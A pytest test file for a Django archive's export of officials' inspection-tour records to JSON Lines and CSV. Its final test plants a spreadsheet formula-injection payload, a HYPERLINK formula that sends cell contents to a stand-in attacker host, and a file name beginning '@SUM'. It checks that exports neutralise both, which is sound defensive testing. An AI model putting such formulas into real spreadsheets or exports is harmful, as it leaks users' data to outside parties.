"""export_visits: the schema score.py reads, in JSON Lines and CSV (tests/corpus scores it)."""

import csv
import io
import json

import pytest
from django.core.management import call_command

from archive.ingest.importer import Importer
from archive.models import Visit
from tests.articles import SEEDS, seed, written

pytestmark = pytest.mark.django_db


def export(fmt: str, tmp_path) -> str:
    target = tmp_path / f"visits.{fmt}"
    call_command("export_visits", "--format", fmt, "--output", str(target))
    return target.read_text(encoding="utf-8")


def test_jsonl_has_one_tour_a_line_with_names_posts_and_sources(tmp_path):
    Importer().import_paths([str(seed("001")), str(written("meeting"))])
    lines = export("jsonl", tmp_path).splitlines()
    assert len(lines) == 1  # the meeting is not a tour
    record = json.loads(lines[0])
    assert record["start_date"] == "2023-03-21" and record["end_date"] == "2023-03-22"
    assert record["officials"] == [
        {"name": "Li Qiang", "name_zh": "李强", "post": "Premier of the State Council"}
    ]
    assert [a["name"] for a in record["accompanying"]] == ["Wu Zhenglong"]
    assert [p["name"] for p in record["provinces"]] == ["Hunan"]
    assert {c["name"] for c in record["cities"]} == {"Zhuzhou", "Changsha"}
    assert all(c["province"] == "Hunan" for c in record["cities"])
    assert "advanced-manufacturing" in record["themes"]
    assert record["sources"][0]["file"] == seed("001").name
    assert record["url"] == f"/visits/{record['id']}/"
    assert record["review_status"] == "unreviewed"


def test_rejected_tours_are_not_exported(tmp_path):
    Importer().import_paths([str(SEEDS)])
    Visit.objects.filter(sources__file_name=seed("002").name).update(review_status="rejected")
    assert len(export("jsonl", tmp_path).splitlines()) == 4


def test_csv_flattens_lists_with_semicolons(tmp_path):
    Importer().import_paths([str(seed("001"))])
    rows = list(csv.DictReader(io.StringIO(export("csv", tmp_path))))
    assert len(rows) == 1
    assert rows[0]["officials"] == "Li Qiang"
    assert set(rows[0]["cities"].split("; ")) == {"Zhuzhou", "Changsha"}
    assert rows[0]["sources"] == seed("001").name


# A report whose text begins with a formula, in a file whose name begins with another.
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Details")'


@pytest.fixture
def formula_report(tmp_path):
    header, text = seed("001").read_text(encoding="utf-8").split("\n", 1)
    title = header.split(" ", 3)[3]  # " date YYYY-MM-DD Title"
    report = tmp_path / "@SUM(1+1).txt"
    report.write_text(f"{FORMULA} {title}\n{text}", encoding="utf-8")
    Importer().import_paths([str(report)])
    return report


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_csv_cell_is_a_formula_in_export_visits_or_the_sites_downloads(
    client, tmp_path, formula_report
):
    written = export("csv", tmp_path)
    downloaded = b"".join(client.get("/visits/", {"format": "csv"}).streaming_content).decode()

    for text in (written, downloaded):
        (row,) = csv.DictReader(io.StringIO(text))
        assert row["summary"].startswith("'" + FORMULA)  # shown as text, as it was written
        assert row["sources"] == "'@SUM(1+1).txt"
        assert not [c for c in cells(text) if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
